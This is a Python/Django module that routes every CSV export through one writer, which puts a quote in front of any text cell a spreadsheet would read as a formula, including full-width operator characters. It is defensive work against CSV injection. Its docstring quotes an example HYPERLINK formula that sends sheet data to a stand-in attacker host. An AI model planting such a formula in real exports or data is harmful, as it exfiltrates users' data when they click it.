"""The one way o2c writes a spreadsheet file: every CSV export goes through `write_csv` or `csv_response`, and
no other module may call `csv.writer` (tests/test_spreadsheets.py enumerates the code), so an export added
later is escaped without anyone remembering to.

Why: invoice numbers, PO numbers, customer names and bank references arrive from ERP files, bank files and
the portal. A clerk opens the export in Excel, LibreOffice or Google Sheets, which run a cell that begins
like a formula: `=HYPERLINK("http://evil/?"&A1,"x")` sends the sheet's data away on a click, older DDE forms
start programs.

What is escaped, as OWASP recommends (https://owasp.org/www-community/attacks/CSV_Injection): a text cell
that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single quote in front, which the
spreadsheet reads as "this is text" and does not show. Also:
- a line feed: like the carriage return it is how a cell can open on a second line that starts a formula;
- the full-width `＝ ＋ － ＠` (U+FF1D, U+FF0B, U+FF0D, U+FF20): Excel with a Japanese or Chinese input
  locale can take them for the ASCII operators, and Japanese ERP and bank data do carry full-width
  characters. Real data essentially never begins with them, so the quote costs nothing.
A NUL (listed by OWASP ASVS) cannot occur: PostgreSQL text holds none.

Numbers are decided by type, not by text. An `int`, `Decimal` or `float` that the export itself computes (an
amount, an id) is written as it is, so a real -10.00 stays a number the clerk can sum; a spreadsheet cannot
read a number as a formula. Every `str` (and anything else: dates, None) is data and is escaped, even when
it looks like a number: "-2+3" from a PO field is a formula to Excel. Exports therefore pass amounts as
`Decimal`, never as preformatted text (a text "-10.00" would come out as '-10.00). A non-finite Decimal is
not a number a spreadsheet knows and goes through as text.

Not covered: a comma-separated file opened in a spreadsheet whose list separator is `;` splits cells at a
`;` inside a value, and a piece after it is not escaped; in that setting none of our files parses into its
columns anyway. XLSX: o2c writes none today; one written here would set text cells' type to string instead
(openpyxl makes any str that begins with `=` a formula), which is why the same test refuses openpyxl and
xlsxwriter outside this module.
"""

from __future__ import annotations

import csv
import math
from collections.abc import Iterable
from decimal import Decimal

from django.http import HttpResponse

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value):
    """The cell as it may be written: numbers unchanged, text with a leading quote when a spreadsheet would
    read it as a formula."""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool) and _finite(value):
        return value
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def _finite(number) -> bool:
    if isinstance(number, Decimal):
        return number.is_finite()
    return math.isfinite(number) if isinstance(number, float) else True  # an int is always finite


class CsvWriter:
    """`csv.writer` whose every cell goes through `safe_cell` (same dialect arguments)."""

    def __init__(self, stream, **fmtparams):
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row: Iterable):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def write_csv(stream, header: list[str], rows: Iterable[Iterable], **fmtparams) -> int:
    """The header, then the rows; returns how many rows were written."""
    writer = CsvWriter(stream, **fmtparams)
    writer.writerow(header)
    n = 0
    for row in rows:
        writer.writerow(row)
        n += 1
    return n


def csv_response(filename: str, header: list[str], rows: Iterable[Iterable]) -> HttpResponse:
    """A CSV download (UTF-8, as an attachment named `filename`)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    write_csv(response, header, rows)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
